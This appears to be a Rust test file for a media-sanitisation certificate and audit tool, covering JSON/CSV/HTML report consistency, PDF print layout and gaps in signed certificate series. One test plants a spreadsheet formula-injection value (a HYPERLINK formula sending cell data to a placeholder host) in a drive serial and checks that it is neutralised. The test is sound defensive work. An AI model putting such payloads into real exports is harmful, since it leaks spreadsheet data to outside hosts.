        assert_eq!(out.status.code(), Some(2), "{opt} {path} {force}: {err}");
        assert!(
            err.contains(want) && err.lines().count() == 1,
            "{opt} {path} {force}: {err}"
        );
    }
    for (p, b) in &before {
        assert_eq!(&std::fs::read(p).unwrap(), b, "{} changed", p.display());
    }
    assert!(!env.path("c/new.csv").exists() && !env.path("nowhere.txt").exists());
    assert_eq!(
        std::fs::read_to_string(env.path("old.csv")).unwrap(),
        "yesterday's report"
    );
    // A new file is written; an old report is replaced only with --force.
    let out = mediasan!(
        env,
        "audit",
        "c",
        "--assets",
        "assets.csv",
        "--allow-image-records",
        "--csv",
        "new.csv"
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(std::fs::read_to_string(env.path("new.csv"))
        .unwrap()
        .contains("covered"));
    let out = mediasan!(
        env,
        "audit",
        "c",
        "--assets",
        "assets.csv",
        "--allow-image-records",
        "--csv",
        "old.csv",
        "--force"
    );
    assert_code(&out, 0);
    assert!(std::fs::read_to_string(env.path("old.csv"))
        .unwrap()
        .contains("covered"));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized() {
    let env = Env::new();
    // A drive whose firmware (or whoever typed it) gave a serial that is a formula.
    let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";
    assert_code(
        &mediasan!(
            env,
            "destroyed",
            "--serial",
            evil,
            "--asset-tag",
            "+A-1",
            "--method",
            "shred",
            "--facility",
            "@Shred",
            "--witness=-W",
            "--operator",
            "J",
            "--cert-dir",
            "c"
        ),
        0,
    );
    env.trust_default_key();
    std::fs::write(
        env.path("assets.csv"),
        "serial,asset_tag,Rack\n-5,@T,\"\tr1\"\n",
    )
    .unwrap();
    let out = mediasan!(
        env,
        "audit",
        "c",
        "--assets",
        "assets.csv",
        "--csv",
        "r.csv"
    );
    assert_code(&out, 1);
    let mut r = csv::Reader::from_path(env.path("r.csv")).unwrap();
    let mut cells: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    for row in r.records() {
        cells.extend(row.unwrap().iter().map(String::from));
    }
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {c:?}: {cells:?}"
        );
    }
    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'-5"), "{cells:?}");
}

fn b3(p: &Path) -> String {
    blake3::hash(&std::fs::read(p).unwrap_or_else(|e| panic!("{}: {e}", p.display())))
        .to_hex()
        .to_string()
}

/// Runs the audit of the set with every report into `reports/`.
fn audit_all_reports(s: &Set) -> (Vec<serde_json::Value>, String, String) {
    let env = &s.env;
    std::fs::create_dir_all(env.path("reports")).unwrap();
    let out = mediasan!(
        env,
        "audit",
        "certs",
        "--allowed-signers",
        &s.allowed,
        "--assets",
        &s.assets,
        "--json",
        "--qc-percent",
        "50",
        "--seed",
        "audit 2026-12",
        "--allow-image-records",
        "--csv",
        "reports/report.csv",
        "--html",
        "reports/report.html"
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        events(&out),
        std::fs::read_to_string(env.path("reports/report.csv")).unwrap(),
        unescape_html(&std::fs::read_to_string(env.path("reports/report.html")).unwrap()),
    )
}

#[test]
fn the_report_stands_on_its_own_and_json_csv_and_html_say_the_same() {
    if !have("ssh-keygen") || !have("tar") {
        skip!("ssh-keygen and tar are needed");
    }
    let s = make_set();
    let env = &s.env;
    let (ev, csv, html) = audit_all_reports(&s);

    // How it was made: version, the command line as given, the trust anchors as OpenSSH
    // names them.
    let cx = &ev[0];
    assert_eq!(cx["event"], "audit_context");
    assert_eq!(cx["version"], env!("CARGO_PKG_VERSION"));
    let command: Vec<&str> = cx["command"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert!(
        command.windows(2).any(|w| w == ["--seed", "audit 2026-12"]),
        "{command:?}"
    );
    let anchors = cx["anchors"].as_array().unwrap();
    let fingerprints: Vec<&str> = anchors
        .iter()
        .map(|a| a["fingerprint"].as_str().unwrap())
        .collect();
    for (key, principal) in [
        (env.pubkey(), "org"),
        (env.path("validator.pub"), "validator"),
    ] {
        let fp = ssh_fingerprint(&key);
        let a = anchors
            .iter()
            .find(|a| a["fingerprint"] == fp.as_str())
            .unwrap_or_else(|| panic!("{fp} in {fingerprints:?}"));
        assert_eq!(a["principals"], principal);
        assert!(html.contains(&fp), "{fp} in the HTML");
    }

    // Every file read, by its BLAKE3 as b3sum would print it: certificates, signatures,
    // the bundle, the register, the allowed_signers file.
    let inputs: Vec<&serde_json::Value> =
        ev.iter().filter(|e| e["event"] == "audit_input").collect();
    assert_eq!(cx["inputs"], inputs.len());
    let mut listing = String::new();
    for i in &inputs {
        let file = i["file"].as_str().unwrap();
        if !file.contains("\\x") {
            assert_eq!(
                i["blake3"],
                b3(&env.dir.path().join(file)).as_str(),
                "{file}"
            );
            assert_eq!(
                i["bytes"],
                std::fs::metadata(env.dir.path().join(file)).unwrap().len()
            );
        }
        listing += &format!("{}  {}\n", i["blake3"].as_str().unwrap(), file);
        assert!(
            html.contains(&format!("{}  {}", i["blake3"].as_str().unwrap(), file)),
            "{file} listed in the HTML"
        );
    }
    for (role, file) in [
        ("register", &s.assets),
        ("allowed_signers", &s.allowed),
        ("bundle", &env.path("certs/bundle.tar.gz")),
    ] {
        let i = inputs
            .iter()
            .find(|i| i["role"] == role)
            .unwrap_or_else(|| panic!("no {role} input"));
        assert_eq!(i["blake3"], b3(file).as_str(), "{role}");
    }
    let digest = blake3::hash(listing.as_bytes()).to_hex().to_string();
    assert_eq!(cx["inputs_blake3"], digest.as_str());
    assert!(html.contains(&digest));

    // The QC draw names the records it drew, the same in all three.
    let summary = ev.last().unwrap();
    let picks = summary["qc"]["picks"].as_array().unwrap();
    assert_eq!(picks.len(), 2);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_string).collect();
    let col = |n: &str| {
        header
            .iter()
            .position(|h| h == n)
            .unwrap_or_else(|| panic!("no {n} in {header:?}"))
    };
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let files: BTreeMap<String, &serde_json::Value> = ev
        .iter()
        .filter(|e| e["event"] == "audit_file")
        .map(|e| (e["file"].as_str().unwrap().to_string(), e))
        .collect();
    for p in picks {
        let (medium, cert, id) = (
            p["medium"].as_str().unwrap(),
            p["certificate"].as_str().unwrap(),
            p["id"].as_str().unwrap(),
        );
        assert_eq!(files[cert]["id"], id, "{p}");
        for want in [medium, id, cert] {
            assert!(html.contains(want), "{want} of the QC draw in the HTML");
        }
        let row = rows
            .iter()
            .find(|r| r[col("certificate")] == *cert)
            .unwrap_or_else(|| panic!("{cert} in the CSV"));
        assert_eq!(&row[col("qc_sample")], "drawn (seed audit 2026-12, 50 %)");
    }
    assert_eq!(
        rows.iter()
            .filter(|r| !r[col("qc_sample")].is_empty())
            .count(),
        2
    );

    // Per asset: the same standing, record and hash in the CSV as in the JSON; in the HTML
    // the same standing and record.
    let assets: Vec<&serde_json::Value> =
        ev.iter().filter(|e| e["event"] == "audit_asset").collect();
    assert_eq!(assets.len(), rows.len());
    for (a, row) in assets.iter().zip(&rows) {
        assert_eq!(a["standing"], &row[col("standing")]);
        let cert = a["certificate"].as_str().unwrap_or("");
        assert_eq!(cert, &row[col("certificate")]);
        let hash = if cert.is_empty() {
            ""
        } else {
            files[cert]["blake3"].as_str().unwrap()
        };
        assert_eq!(hash, &row[col("certificate_blake3")]);
        if !cert.is_empty() {
            if !cert.contains('!') {
                assert_eq!(hash, b3(&env.dir.path().join(cert)).as_str(), "{cert}");
            }
            let line = format!(
                "<tr class=\"{}\"><td>{}</td>",
                if a["standing"] == "covered" {
                    ""
                } else {
                    "open"
                },
                a["line"]
            );
            let tr = html
                .split(&line)
                .nth(1)
                .unwrap_or_else(|| panic!("{line}"))
                .split("</tr>")
                .next()
                .unwrap();
            assert!(tr.contains(cert), "{tr}");
        }
    }

    // Links are relative to the report's folder and lead to the files.
    let hrefs: Vec<&str> = html
        .split("href=\"")
        .skip(1)
        .map(|h| h.split('"').next().unwrap())
        .collect();
    assert!(hrefs.len() > 10);
    for h in hrefs {
        assert!(h.starts_with("../certs/"), "{h}");
        let path = env.path("reports").join(percent_decode(h));
        assert!(path.exists(), "{h} leads to {}", path.display());
    }
    // A place to sign it off.
    assert!(html.contains("id=\"signoff\"") && html.contains("Signature"));
}

/// The page's text with its character references decoded (minijinja writes `/` as `&#x2f;`).
fn unescape_html(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out += &rest[..i];
        rest = &rest[i..];
        let end = rest.find(';').filter(|&e| e <= 8);
        let c = end.and_then(|e| match &rest[1..e] {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            n if n.starts_with("#x") => u32::from_str_radix(&n[2..], 16)
                .ok()
                .and_then(char::from_u32),
            n if n.starts_with('#') => n[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        });
        match (c, end) {
            (Some(c), Some(e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out + rest
}

fn percent_decode(s: &str) -> std::ffi::OsString {
    use std::os::unix::ffi::OsStringExt;
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            out.push(u8::from_str_radix(&s[i + 1..i + 3], 16).unwrap());
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    std::ffi::OsString::from_vec(out)
}

/// Words of a `pdftotext -bbox` page: (page width, page height, [(x min, y min, x max, y max,
/// text)]).
type Page = (f64, f64, Vec<(f64, f64, f64, f64, String)>);

fn pdf_pages(pdf: &Path) -> Vec<Page> {
    let out = Command::new("pdftotext")
        .arg("-bbox")
        .arg(pdf)
        .arg("-")
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let attr = |tag: &str, name: &str| -> f64 {
        let v = tag.split(&format!("{name}=\"")).nth(1).unwrap();
        v.split('"').next().unwrap().parse().unwrap()
    };
    text.split("<page ")
        .skip(1)
        .map(|page| {
            let words = page
                .split("<word ")
                .skip(1)
                .map(|w| {
                    let (tag, rest) = w.split_once('>').unwrap();
                    let word = unescape_html(rest.split("</word>").next().unwrap());
                    let b = |n| attr(tag, n);
                    (b("xMin"), b("yMin"), b("xMax"), b("yMax"), word)
                })
                .collect();
            (attr(page, "width"), attr(page, "height"), words)
        })
        .collect()
}

#[test]
fn the_printed_report_has_its_summary_on_page_one_and_no_table_off_the_page() {
    let chromium = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|c| have(c));
    let Some(chromium) = chromium else {
        skip!("a headless Chromium (Debian package chromium) is needed to print the report");
    };
    if !have("pdftotext") || !have("ssh-keygen") || !have("tar") {
        skip!("pdftotext, ssh-keygen and tar are needed");
    }
    let s = make_set();
    let env = &s.env;
    // A name no column is wide enough for: it must wrap inside its cell, not push the table
    // off the page (or make the browser shrink the page to fit it).
    let long = format!("certs/{}.json", "Z".repeat(200));
    let a = &s.files["a"];
    std::fs::copy(a, env.path(&long)).unwrap();
    std::fs::copy(sig(a), env.path(&format!("{long}.sig"))).unwrap();
    // And a serial as long, in a row of the register.
    let mut register = std::fs::read_to_string(&s.assets).unwrap();
    register += &format!("{},,,r10\n", "Y".repeat(120));
    std::fs::write(&s.assets, register).unwrap();
    let (ev, _, _) = audit_all_reports(&s);
    let summary_lines = ev.iter().filter(|e| e["event"] == "audit_file").count();
    assert!(summary_lines > 10);
    let page = std::fs::read_to_string(env.path("reports/report.html")).unwrap();
    for (paper, width, height) in [("A4", 595.0, 842.0), ("letter", 612.0, 792.0)] {
        let html = env.path(&format!("reports/print-{paper}.html"));
        std::fs::write(
            &html,
            page.replacen(
                "</head>",
                &format!("<style>@page{{size:{paper}}}</style></head>"),
                1,
            ),
        )
        .unwrap();
        let pdf = env.path(&format!("reports/{paper}.pdf"));
        let mut cmd = Command::new(chromium);
        cmd.args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-pdf-header-footer",
        ])
        .arg(format!(
            "--user-data-dir={}",
            env.path("chromium").display()
        ))
        .arg(format!("--print-to-pdf={}", pdf.display()))
        .arg(format!("file://{}", html.display()))
        .env("HOME", env.dir.path());
        let out = within(cmd, 120, "chromium --print-to-pdf");
        assert!(pdf.exists(), "{}", String::from_utf8_lossy(&out.stderr));
        let pages = pdf_pages(&pdf);
        let (w, h, _) = &pages[0];
        assert!(
            (w - width).abs() < 1.0 && (h - height).abs() < 1.0,
            "{paper}: {w} x {h}"
        );
        // The summary, the verdict and the sign-off on page one.
        let first: Vec<&str> = pages[0].2.iter().map(|w| w.4.as_str()).collect();
        let first = first.join(" ");
        for want in [
            "NOT CLEAN",
            "AUDIT:",
            "Superseded earlier records",
            "Sign-off",
            "Signature",
        ] {
            assert!(
                first.contains(want),
                "{paper}: {want:?} on page one: {first}"
            );
        }
        // Every word inside the page (a 12 mm margin on each side), at the size the print
        // stylesheet sets: a table wider than the page would be cut off, or the browser would
        // shrink the whole page to fit it (the report before this test printed at 67 %). The
        // smallest print size is 7.5 pt; a DejaVu Sans word box (fonts-dejavu-core, which CI
        // installs) is 1.16 em high, so the median word is at least 8.3 pt high.
        let mut heights = Vec::new();
        for (n, (w, h, words)) in pages.iter().enumerate() {
            for (x0, y0, x1, y1, text) in words {
                assert!(
                    *x0 >= 30.0 && *x1 <= w - 30.0 && *y0 >= 0.0 && *y1 <= *h,
                    "{paper} page {}: {text:?} at x {x0:.0}..{x1:.0} is off the page (width {w})",
                    n + 1
                );
                heights.push(y1 - y0);
            }
        }
        heights.sort_by(f64::total_cmp);
        let median = heights[heights.len() / 2];
        assert!(
            median >= 8.3,
            "{paper}: text shrunk to fit, median height {median:.2} pt"
        );
        // The long name is all there, wrapped.
        let zs: usize = pages
            .iter()
            .flat_map(|p| &p.2)
            .filter(|w| w.4.contains("ZZ"))
            .map(|w| w.4.matches('Z').count())
            .sum();
        assert!(zs >= 200, "{paper}: {zs} of the long name's 200 Z printed");
        let ys: usize = pages
            .iter()
            .flat_map(|p| &p.2)
            .filter(|w| w.4.contains("YY"))
            .map(|w| w.4.matches('Y').count())
            .sum();
        assert!(
            ys >= 120,
            "{paper}: {ys} of the long serial's 120 Y printed"
        );
    }
}

#[test]
fn a_certificate_missing_from_a_signers_series_is_named_and_a_restart_is_visible() {
    let env = Env::new();
    for (n, tag) in [("s1", "T-1"), ("s2", "T-2"), ("s3", "T-3"), ("s4", "T-4")] {
        wiped(&env, n, tag);
    }
    env.trust_default_key();
    let certs = env.certificates(&env.path("c"));
    let mut numbered: Vec<(u64, PathBuf)> = certs
        .iter()
        .map(|p| {
            let c = read_cert(p);
            let chain = c.chain.expect("every new certificate is numbered");
            (chain.seq, p.clone())
        })
        .collect();
    numbered.sort();
    let seqs: Vec<u64> = numbered.iter().map(|n| n.0).collect();
    assert_eq!(seqs, [1, 2, 3, 4]);
    // Each names the BLAKE3 of the one before it.
    let two = read_cert(&numbered[1].1).chain.unwrap();
    assert_eq!(two.previous, digest(&numbered[0].1));
    let out = mediasan!(env, "audit", "c");
    let text = String::from_utf8_lossy(&out.stdout);
    assert_code(&out, 0);
    assert!(text.contains("#1-#4, 4 certificate(s)"), "{text}");

    // A FAIL certificate dropped from the delivery: named, and the delivery is not clean.
    std::fs::remove_file(&numbered[1].1).unwrap();
    std::fs::remove_file(sig(&numbered[1].1)).unwrap();
    let out = mediasan!(env, "audit", "c");
    let text = String::from_utf8_lossy(&out.stdout);
    assert_code(&out, 1);
    assert!(text.contains("MISSING #2"), "{text}");
    assert!(text.contains("NOT CLEAN"), "{text}");
    let out = mediasan!(env, "audit", "c", "--json");
    let summary = events(&out).pop().unwrap();
    assert_eq!(summary["event"], "audit_summary");
    assert_eq!(summary["series"][0]["gaps"], serde_json::json!([[2, 2]]));
    assert_eq!(summary["clean"], false);

    // A new state folder: the key's series begins again, shown as a restart.
    let out = env
        .cmd()
        .env("XDG_STATE_HOME", env.path("state2"))
        .args([
            "wipe",
            "--yes",
            "--create",
            "1M",
            "--cert-dir",
            "c",
            "--operator",
            "J",
        ])
        .args(["--asset-tag", "T-5"])
        .arg(env.path("s5.img"))
        .output()
        .unwrap();
    assert_code(&out, 0);
    let out = mediasan!(env, "audit", "c");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("RESTART"), "{text}");
}
